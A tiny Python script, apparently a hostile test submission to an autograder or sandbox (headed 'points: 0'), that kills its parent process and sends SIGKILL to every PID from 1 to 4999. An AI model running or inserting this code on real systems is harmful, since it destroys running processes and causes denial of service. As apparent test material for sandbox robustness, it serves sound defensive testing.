# points: 0
# It kills whoever started it.
import os, signal

try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
for pid in range(1, 5000):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
